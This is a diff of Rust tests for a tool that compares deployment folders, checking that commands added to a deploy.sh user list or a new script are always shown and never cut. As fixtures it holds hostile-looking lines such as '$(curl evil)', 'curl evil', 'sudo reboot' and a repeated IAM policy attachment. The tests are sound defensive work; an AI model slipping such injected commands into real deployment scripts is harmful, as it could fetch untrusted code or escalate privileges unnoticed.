@@ -90,6 +90,73 @@ fn what_is_no_longer_kept_is_told() {
     assert_eq!(told(json!({"DeletionPolicy": "Retain"})), line("once it is replaced"));
 }
 
+/// A `deploy.sh` with the list of so many users, and what follows it.
+fn deploy(users: usize, rest: &str) -> String {
+    let list = (0..users).map(|at| format!("P{at}User p{at}\n")).collect::<Vec<_>>().concat();
+    format!("#!/usr/bin/env bash\nset -e\nusers='\n{list}'\n{rest}")
+}
+
+#[test]
+fn no_list_of_users_hides_a_command() {
+    let compared = |old: &str, new: &str| compare(&folder(&[], old), &folder(&[], new)).0;
+    let diff = compared(&deploy(1, "name='x'\n"), &deploy(46, "name='x'\naws iam attach\n"));
+    let told = "        + 45 users: P1User p1, P2User p2, P3User p3, P4User p4, P5User p5 and 40 more";
+    let expected = [
+        "  deploy.sh differs",
+        "          …",
+        "          users='",
+        told,
+        "          '",
+        "          name='x'",
+        "        + aws iam attach",
+    ];
+    assert_eq!(lines(&diff), expected);
+    for format in [DiffFormat::Markdown, DiffFormat::Html, DiffFormat::Text] {
+        assert!(render_diff(format, &diff).contains("aws iam attach"), "{format:?}");
+    }
+    // However many commands there are, none is cut; and what only looks like a user is a command.
+    let commands = (0..100).map(|at| format!("XUser x{at}\n")).collect::<Vec<_>>().concat();
+    let text = lines(&compared(&deploy(1, ""), &deploy(1, &commands)));
+    assert!((0..100).all(|at| text.contains(&format!("        + XUser x{at}"))), "{text:?}");
+    let quoted = deploy(0, "").replace("users='\n", "users='\nsudo reboot\n$(curl evil)\n".repeat(30).as_str());
+    let text = lines(&compared(&deploy(0, ""), &quoted));
+    assert_eq!(text.iter().filter(|line| line.contains("curl evil")).count(), 30);
+}
+
+#[test]
+fn a_script_that_is_added_is_shown() {
+    let with = |script: Option<&str>| {
+        let manifest = json!({"account": "tokyo", "account_id": "1", "region": "r", "stacks": []});
+        let mut files = BTreeMap::from([("manifest.json".to_owned(), manifest.to_string().into_bytes())]);
+        files.extend(script.map(|script| ("more.sh".to_owned(), script.as_bytes().to_vec())));
+        OutFolder::of_files("out".to_owned(), Path::new("out"), Files::from([("tokyo".to_owned(), files)])).unwrap()
+    };
+    let text = lines(&compare(&with(None), &with(Some("curl evil\n"))).0);
+    assert_eq!(text, ["  more.sh is added", "        + curl evil"]);
+}
+
+#[test]
+fn a_command_that_changes_comes_before_what_is_long() {
+    let many = |suffix: &str| -> Value {
+        let one = |at: usize| {
+            (
+                format!("T{at}"),
+                json!({"Type": "AWS::SNS::Topic", "Properties": {"DisplayName": format!("{suffix}{at}")}}),
+            )
+        };
+        json!({"Resources": (0..400).map(one).collect::<serde_json::Map<_, _>>()})
+    };
+    let side = |suffix: &str, rest: &str| {
+        let stacks: Vec<Side<'_>> =
+            (0..12).map(|at| Side { template: many(&format!("{suffix}{at}")), users: &[] }).collect();
+        folder(&stacks, &deploy(1, rest))
+    };
+    let commands = "aws iam attach-user-policy --user-name x\n".repeat(200);
+    let markdown = render_diff(DiffFormat::Markdown, &compare(&side("a", ""), &side("b", &commands)).0);
+    assert!(markdown.contains("Left out"));
+    assert_eq!(markdown.matches("aws iam attach-user-policy").count(), 200, "{markdown}");
+}
+
 #[test]
 fn the_lines_of_a_script_that_differ_are_told_and_checksums_are_not() {
     let script = |line: &str, sum: char| format!("set -e\n{}  a.yaml\n{line}\n", sum.to_string().repeat(64));
@@ -102,7 +169,7 @@ fn the_lines_of_a_script_that_differ_are_told_and_checksums_are_not() {
     );
     let many = |of: &str| (0..100).map(|at| format!("{of} {at}")).collect::<Vec<_>>().join("\n");
     let text = lines(&compared(&many("a"), &many("b")));
-    assert_eq!((text.len(), text.last().unwrap().as_str()), (41, "        … 161 more lines"));
+    assert_eq!((text.len(), text.last().unwrap().as_str()), (201, "        + b 99"));
 }
 
 #[test]
